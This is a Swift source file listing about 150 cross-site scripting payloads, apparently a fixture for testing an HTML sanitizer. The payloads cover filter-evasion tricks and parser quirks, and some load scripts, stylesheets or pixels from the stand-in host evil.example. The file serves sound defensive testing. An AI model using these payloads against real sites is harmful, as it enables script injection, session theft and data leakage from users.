/// Markup that tries to run something, to fetch something, or to leave its frame; written after the classes of tricks that
/// the OWASP XSS filter evasion page and the HTML standard's parsing rules describe.
enum XSSPayloads {
  static let all = scripts + handlers + addresses + styles + foreign + parsing + pages

  private static let scripts = [
    "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>", "<script>alert(1)",
    "<script><!--</script>--><img src=x onerror=a()>",
    "<script>'</script><script>alert(1)</script>'",
    "<script type=module>import('//evil.example')</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "</script><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>", "<xmp><script>alert(1)</script></xmp>",
  ]

  private static let handlers = [
    "<img src=x onerror=alert(1)>", "<img src=x oNeRrOr=alert(1)>", "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">", "<img src=x onerror\u{0c}=alert(1)>",
    "<body onload=alert(1)>", "<p onclick=\"alert(1)\">x</p>", "<details open ontoggle=alert(1)>x",
    "<div onpointerenter=alert(1)>x</div>", "<a onmouseover=alert(1) href=https://a.example>x</a>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>", "<marquee onstart=alert(1)>x</marquee>",
    "<p style=\"animation-name:x\" onanimationstart=\"alert(1)\">x",
    "<img src=`x`onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">", "<p =x onclick=alert(1)>x",
    "<p a=\"b\"onclick=alert(1)>x",
    "<td onresize=alert(1) background=javascript:alert(1)>x", "<p on\u{0}click=alert(1)>x",
  ]

  private static let addresses = [
    "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
    "<a href=\"&#0000106avascript&colon;alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"\u{01}javascript:alert(1)\">x</a>", "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>", "<a href=\"//evil.example\">x</a>",
    "<a href=\"/logout\">x</a>", "<a href=\"blob:https://a.example/1\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"https:javascript:alert(1)\">x</a>",
    "<a ping=\"https://evil.example\" href=\"#a\">x</a>",
    "<img src=\"https://evil.example/pixel.png\">", "<img src=\"//evil.example/pixel.png\">",
    "<img srcset=\"https://evil.example/x 2x\" src=\"data:image/png;base64,AA==\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">", "<img src=\"data:text/html,<script>\">",
    "<img src=\"javascript:alert(1)\">",
    "<img lowsrc=\"javascript:alert(1)\" dynsrc=\"javascript:alert(1)\">",
    "<img src=\"data:image/png;base64,AA==\" usemap=#m><map name=m><area href=javascript:alert(1)></map>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</table>",
    "<q cite=\"javascript:alert(1)\">x</q>",
  ]

  private static let styles = [
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example)}",
    "<p style=\"background:url(javascript:alert(1))\">x",
    "<p style=\"background-color:url(//evil.example)\">x",
    "<p style=\"color:expression(alert(1))\">x", "<p style=\"color:\\65xpression(alert(1))\">x",
    "<p style=\"width:e/**/xpression(alert(1))\">x", "<p style=\"behavior:url(x.htc)\">x",
    "<p style=\"-moz-binding:url(//evil.example/x.xml#a)\">x",
    "<p style=\"position:fixed;top:0;left:0\">x",
    "<p style=\"color:red;background-image:&#117;rl(//evil.example)\">x",
    "<p style=\"color:var(--x)\">x",
    "<p style=\"border:1px solid;border-image:url(//evil.example)\">x",
    "<p style=\"color:red}</style><script>\">x",
    "<p style=\"color:rgb(url(//evil.example))\">x",
    "<link rel=stylesheet href=//evil.example/x.css>",
  ]

  private static let foreign = [
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"></use></svg>",
    "<svg><!--</svg>--><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>", "<svg/onload=alert(1)//",
  ]

  private static let parsing = [
    "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->", "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?php echo '<script>alert(1)</script>' ?>",
    "<!ELEMENT <img src=x onerror=alert(1)>>", "</ <img src=x onerror=alert(1)>>",
    "<img src=x onerror=alert(1)",
    "<p title=\"<img src=x onerror=alert(1)>\">x", "<p title='\"><img src=x onerror=alert(1)>'>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<p title=&quot;&gt;&lt;script&gt;>x",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)></title>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<a<b>x", "<x onclick=alert(1)>y</x>",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<p\u{0}><script\u{0}>alert(1)</script>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><a href=javascript:alert(1)><tr></a>x", "<", "<a", "<a href", "<a href=", "<a href=\"",
    "</", "<!", "<!-", "<!--",
  ]

  private static let pages = [
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>", "<frameset><frame src=javascript:alert(1)></frameset>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<base href=https://evil.example/>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<dialog open><form method=dialog></form></dialog>",
    "<p id=document name=body>x</p>", "<a id=location href=https://a.example target=_top>x</a>",
    "<link rel=import href=//evil.example>", "<portal src=https://evil.example></portal>",
    "<fencedframe></fencedframe>",
    "<p contenteditable autofocus tabindex=1 accesskey=x is=x slot=y>x</p>",
  ]
}
